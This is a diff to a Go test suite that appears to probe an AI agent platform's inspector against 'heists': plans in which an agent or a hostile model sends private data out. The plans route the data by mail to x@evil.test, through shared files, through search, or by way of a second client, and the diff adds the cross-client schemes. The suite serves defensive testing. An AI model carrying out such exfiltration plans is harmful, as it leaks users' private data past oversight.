@@ -73,6 +73,7 @@ type scheme struct {
 	first  bool                             // the data is read before the text arrives
 	source func(*stage, *agent) planStep    // writes it as "private"; nil: a file
 	out    func(*stage, *agent) []planStep  // nil: a mail
+	other  func(*stage, *agent) []planStep  // what another client's plan does after it; nil: there is none
 	jq     string                           // what becomes of the data on the way; "": nothing
 	encode func(string) string              // the same
 	got    func(received, data string) bool // as of heist
@@ -110,6 +111,16 @@ func (h scheme) plan(s *stage, a *agent) string {
 	return heistPlan(steps)
 }
 
+// leaves has the data leave by the plan, and by that of another client if there is one. does carries a plan out.
+func (h scheme) leaves(does func(s *stage, a *agent, plan string)) func(*stage, *agent, string) {
+	return func(s *stage, a *agent, _ string) {
+		does(s, a, h.plan(s, a))
+		if h.other != nil {
+			does(s, s.agent(a.modern), heistPlan(h.other(s, a)))
+		}
+	}
+}
+
 func mailStep(data string) planStep {
 	return planStep{
 		ID: "mail", Node: "mail.send_mail", Inputs: map[string]any{"to": "x@evil.test", "subject": "notes"},
@@ -139,7 +150,6 @@ func sending(node, input, words string) func(*stage, *agent) []planStep {
 //     of its node, and no client answers for it.
 //   - those of a client that connects anew, in another protocol or at a server's own endpoint, and those of calls that
 //     overlap: the calls of a run are one after the other in one session.
-//   - those of two clients: a run is of one client.
 //   - those with grants, clean sessions and undo: a person does these between calls, and a yes to a plan is no grant.
 func schemes() (all []scheme) {
 	all = append(all, scheme{name: "result"}, scheme{name: "private data first", first: true})
@@ -173,6 +183,16 @@ func schemes() (all []scheme) {
 		all = append(all, scheme{name: "by " + name, out: out})
 	}
 	all = append(all, scheme{name: "letter by letter", out: letterSteps, got: spelled})
+	all = append(all, scheme{
+		name: "by a shared file, by another client",
+		out:  func(s *stage, a *agent) []planStep { return throughShared(s, a)[:1] }, other: fromShared,
+	}, scheme{
+		name: "by a server without a way out, by another client", out: sending(safeServer+".search", "query", ""),
+		other: func(*stage, *agent) []planStep {
+			read := planStep{ID: "read", Node: safeServer + ".read_issue", writes: map[string]string{"read_issue": "again"}}
+			return []planStep{read, mailStep("again")}
+		},
+	})
 	for _, server := range []string{vaultServer, memoServer} {
 		all = append(all, scheme{name: "from " + server, source: func(_ *stage, a *agent) planStep {
 			return planStep{
@@ -209,6 +229,9 @@ func throughShared(s *stage, a *agent) []planStep {
 		}, mailStep("again"),
 	}
 }
+
+// fromShared reads what a client has written into the shared folder, and sends it.
+func fromShared(s *stage, a *agent) []planStep { return throughShared(s, a)[1:] }
 
 func throughOwn(*stage, *agent) []planStep {
 	return []planStep{
@@ -321,16 +344,16 @@ func asHeists(all []scheme, plots func(*stage) *plotter) (heists []heist) {
 		}
 		flow, asked := one, one
 		flow.name, asked.name = h.name+", as a flow", h.name+", as a planner's plan"
-		flow.leave = func(s *stage, a *agent, _ string) {
-			status, text := a.patiently(flows.Order{Verb: flows.Run, Form: "json", Text: h.plan(s, a)}, nil)
+		runs := func(_ *stage, a *agent, plan string) {
+			status, text := a.patiently(flows.Order{Verb: flows.Run, Form: "json", Text: plan}, nil)
 			if status != http.StatusOK && status != 0 {
 				a.t.Errorf("%s: %d %s", flow.name, status, text)
 			}
 		}
-		asked.leave = func(s *stage, a *agent, _ string) {
+		asks := func(s *stage, a *agent, plan string) {
 			p, words := plots(s), fmt.Sprintf("heist number %s.", a.notes)
 			p.mu.Lock()
-			p.plans[words] = h.plan(s, a)
+			p.plans[words] = plan
 			p.mu.Unlock()
 			var got flows.Answer
 			patience := a.patience
@@ -349,6 +372,7 @@ func asHeists(all []scheme, plots func(*stage) *plotter) (heists []heist) {
 				a.patiently(flows.Order{Verb: flows.Run, Form: "json", Text: text, Digest: got.Draft.Digest}, nil)
 			}
 		}
+		flow.leave, asked.leave = h.leaves(runs), h.leaves(asks)
 		heists = append(heists, flow, asked)
 	}
 	return heists
@@ -366,6 +390,7 @@ func someSchemes(t *testing.T) []scheme {
 	}
 	few := []string{
 		"result", "in isError", "as base64", "by a model's words", "by a shared file", "by search", "confined, network",
+		"by a shared file, by another client",
 	}
 	all = slices.DeleteFunc(all, func(h scheme) bool { return !slices.Contains(few, h.name) })
 	if len(all) != len(few) {
@@ -373,6 +398,9 @@ func someSchemes(t *testing.T) []scheme {
 	}
 	return all
 }
+
+// alwaysFound is the one scheme that the inspector ends under every profile: it looks at what nodes make of data.
+const alwaysFound = "as invisible characters"
 
 // TestHeistsByPlan is TestHeists of whole plans, each of them in a session that has read nothing: as a flow, and as a
 // plan that a hostile model proposes.
@@ -399,7 +427,14 @@ func TestHeistsByPlan(t *testing.T) {
 			if profile == "operator" { // which only records: each is shown to be a heist
 				for _, th := range heists {
 					secret, _, a := s.try(th)
-					if !th.has(s.received(), secret) {
+					left := th.has(s.received(), secret)
+					if strings.HasPrefix(th.name, alwaysFound) {
+						if left {
+							t.Errorf("%s: the data has left", th.name)
+						}
+						continue
+					}
+					if !left {
 						t.Errorf("%s: the data did not leave, so that this shows nothing: %s", th.name, end(a.said()))
 					}
 				}
